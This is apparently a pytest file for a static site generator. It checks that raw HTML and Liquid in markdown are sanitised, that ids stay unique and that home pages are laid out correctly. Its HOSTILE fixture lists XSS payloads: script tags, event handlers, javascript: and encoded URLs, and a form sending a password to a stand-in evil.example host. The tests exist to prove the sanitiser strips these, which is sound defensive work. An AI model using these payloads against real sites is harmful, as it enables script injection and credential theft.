"""A body's raw HTML and Liquid on the site (pmops.site.sanitize, pmops.site.markdown): a safe
subset of HTML shown as HTML, hostile HTML never; Jekyll's and Eleventy's tags read as their
sites show them, never shown as raw text; ids on a page never repeated."""

from __future__ import annotations

import re
import shutil
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

from pmops.site import linkcheck
from tests.conftest import ROOT, git

HANDBOOK = ROOT / "tests" / "fixtures" / "handbook-html"


class _Page(HTMLParser):
    """A built page's elements: every tag with its attributes, every id, the text outside tags."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    @property
    def ids(self) -> list[str]:
        return [str(attrs["id"]) for _, attrs in self.tags if attrs.get("id")]


def _body(html: str) -> str:
    return html[html.index('<article class="body">') : html.index("</article>")]


HOSTILE = """\
# Hostile

<script>alert("script block")</script>

A paragraph <script>alert("inline")</script> with <img src="x.png" onerror="alert('img')"> an image,
<a href="javascript:alert('href')">a javascript link</a>, <a href="jav&#x09;ascript:alert(1)">an encoded one</a>,
<a href="data:text/html,<script>alert(1)</script>">a data link</a> and <span style="color:red" onclick="x()">style</span>.

<iframe src="https://evil.example/frame"></iframe>

<style>body { display: none }</style>

<img src="https://evil.example/pixel.gif" alt="pixel">
<img src="//evil.example/pixel.gif" alt="another pixel">

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">

<svg><script>alert("svg")</script></svg>

<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>

<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">

</div></main></article><p>Unbalanced closings cannot close the page's own elements.</p>

<div data-pagefind-filter="type">decision</div><a href="#x" target="_blank" id="main">an id the layout has</a>
"""


def test_hostile_html_never_reaches_a_reader(pmops, kb: Path, tmp_path: Path) -> None:
    (kb / "handbook").mkdir()
    (kb / "handbook" / "hostile.md").write_text(HOSTILE)
    out = tmp_path / "site"
    pmops("site", "build", "--out", out)
    html = (out / "handbook" / "hostile.html").read_text()
    body = _body(html)
    page = _Page(html)
    lowered = body.lower()
    for bad in ("<script", "<iframe", "<style", "<object", "<embed", "<svg", "<form", "<input", "<link", "<meta",
                "onerror", "onclick", "style=", "javascript:", "data:text", "evil.example/frame"):  # fmt: skip
        assert bad not in lowered, bad
    assert "alert(" not in lowered  # what a <script> held is left out with it, inline too
    # Nothing on the page is loaded from elsewhere: every src is the site's; a remote image is a link to it.
    assert all(not re.match(r"^(https?:)?//", attrs.get("src") or "") for _, attrs in page.tags)
    assert 'href="https://evil.example/pixel.gif" rel="noopener noreferrer" class="image-link">[image: pixel]' in body
    assert "[image: x.png]" in body  # an image the KB does not have: its text
    assert "Content-Security-Policy" in html and "default-src &#39;self&#39;" in html
    # The page's layout is whole: one main, the backlinks and the footer after the body.
    assert [tag for tag, _ in page.tags].count("main") == 1
    assert html.index("</article>") < html.index('<section class="backlinks"') < html.index('<footer class="site">')
    assert "Unbalanced closings" in body
    assert "data-pagefind-filter" not in body and 'target="_blank"' not in body
    assert [i for i, n in Counter(page.ids).items() if n > 1] == []
    assert 'id="main-1"' in body  # the body's id="main" is not the layout's


def test_a_handbooks_html_and_liquid_are_shown_as_its_site_shows_them(pmops, kb: Path, tmp_path: Path) -> None:
    shutil.copytree(HANDBOOK, kb / "handbook")
    git(kb, "add", "handbook")  # its images are published once git tracks them
    out = tmp_path / "site"
    pmops("site", "build", "--out", out)
    body = _body((out / "handbook/pages/travel.html").read_text())
    # HTML a handbook writes is HTML: sections, details, tables, line breaks, kbd, sub and sup, a local image.
    assert '<section id="before">' in body and "<details>\n<summary>Per diem rates</summary>" in body
    assert "<td>Chicago</td>" in body  # markdown inside <details>, after a blank line, as GitHub renders it
    assert '<th scope="col">Step</th>' in body and '<td colspan="2">' in body and "<kbd>Submit</kbd>" in body
    assert "H<sub>2</sub>O" in body and "10<sup>3</sup>" in body and "Concur.<br>" in body
    assert '<img src="../../handbook/pages/map.png" alt="Map of the office" width="320">' in body
    assert (out / "handbook/pages/map.png").is_file()
    assert "usa-section" not in body and "usa-table" not in body  # classes of another site's stylesheet
    # Links in HTML are resolved as markdown links are ({{site.baseurl}} and permalinks included).
    assert '<a href="../../handbook/pages/tools/slack.html">Slack guide</a>' in body
    assert '<a href="https://www.gsa.gov/travel" rel="noopener noreferrer">' in body
    # Liquid: comments left out, raw kept as written, shortcodes shown, other tags and outputs left out.
    assert "Not ready yet" not in body and "TODO" not in body and "draft" not in body
    assert "<strong>Updated travel guidance (07/13/2021)</strong>" in body and "Ask in #travel when" in body
    assert "[image: searching for a flight]" in body
    assert "Templates write <code>{{ page.title }}</code>" in body
    assert '<code class="language-liquid">{% include &quot;step-indicator.html&quot; %}' in body  # code as written
    text = re.sub(r"<code[^>]*>.*?</code>", "", body, flags=re.DOTALL)
    assert "{%" not in text and "{{" not in text and "step-indicator" not in text
    assert "Write to &lt;your supervisor&gt; before" in body  # a placeholder that is no HTML: shown as written
    assert [str(b) for b in linkcheck.check(out)] == []
    # An image written as a site path (Jekyll's `/pages/map.png`) is read from the handbook's root, or the KB's.
    slack = _body((out / "handbook/pages/tools/slack.html").read_text())
    assert slack.count('<img src="../../../handbook/pages/map.png"') == 2
    # The page linked from HTML lists it among its backlinks.
    assert "../../handbook/pages/travel.html" in (out / "handbook/pages/tools/slack.html").read_text()


def test_headings_never_take_an_id_of_the_layout(pmops, example_kb: Path, tmp_path: Path) -> None:
    decision = next((example_kb / "decisions").glob("dec-*approve-and-reject-from-slack.md"))
    decision.write_text(
        decision.read_text() + "\n## Main\n\nx\n\n## Search\n\n## Evidence\n\n## Linked from\n\n## Main\n\n"
        "<h2 id='backlinks'>Backlinks in HTML</h2>\n\n[to Main](#main-1)\n"
    )
    out = tmp_path / "site"
    pmops("site", "build", "--out", out, "--today", "2026-12-02")
    for path in out.rglob("*.html"):
        ids = _Page(path.read_text()).ids
        assert [i for i, n in Counter(ids).items() if n > 1] == [], path.relative_to(out)
    html = (out / "decisions" / (decision.stem + ".html")).read_text()
    for wanted in ("main-1", "search-1", "evidence-1", "linked-from", "main-2", "backlinks-1"):
        assert f'id="{wanted}"' in _body(html), wanted
    assert '<main id="main"' in html and '<div id="search"' in html and '<h2 id="evidence">' in html
    assert [str(b) for b in linkcheck.check(out)] == []


def test_a_site_of_pages_alone_has_a_home_of_its_pages(pmops, kb: Path, tmp_path: Path) -> None:
    """A handbook-only KB (no pmops type): its home is the search box, the recently changed and
    the pages by folder, not an empty dashboard; a KB with pmops types keeps the dashboard."""
    shutil.copytree(HANDBOOK, kb / "handbook")
    git(kb, "add", "-A")
    git(kb, "commit", "-q", "-m", "The travel handbook")
    (kb / "handbook/pages/tools/slack.md").write_text((kb / "handbook/pages/tools/slack.md").read_text() + "\nMore.\n")
    git(kb, "commit", "-q", "-am", "Slack: more")
    out = tmp_path / "site"
    pmops("site", "build", "--out", out)
    home = (out / "index.html").read_text()
    main = home[home.index("<main") : home.index("</main>")]
    assert 'class="dashboard"' not in home and "<svg" not in home
    assert '<div id="search" class="search search-home"' in main  # the search box, first
    assert home.count('id="search"') == 1  # not in the header as well
    recent = main[main.index('id="recent"') : main.index('id="folders"')]
    assert recent.index("tools/slack.html") < recent.index("pages/travel.html")  # newest first
    assert "<summary>handbook/pages/ <span" in main and "<summary>handbook/pages/tools/ <span" in main
    assert '<a href="handbook/pages/travel.html">Travel</a>' in main
    assert [str(b) for b in linkcheck.check(out)] == []
    # A document of a pmops type: the dashboard is back.
    pmops(
        "insight", "add", "Travel bookings take too long", "--quote", "Booking took me an hour", "--source", "interview"
    )
    pmops("site", "build", "--out", out)
    home = (out / "index.html").read_text()
    assert 'class="dashboard"' in home and 'id="recent"' not in home
    assert '<header class="site">' in home and home.index('id="search"') < home.index("<main")
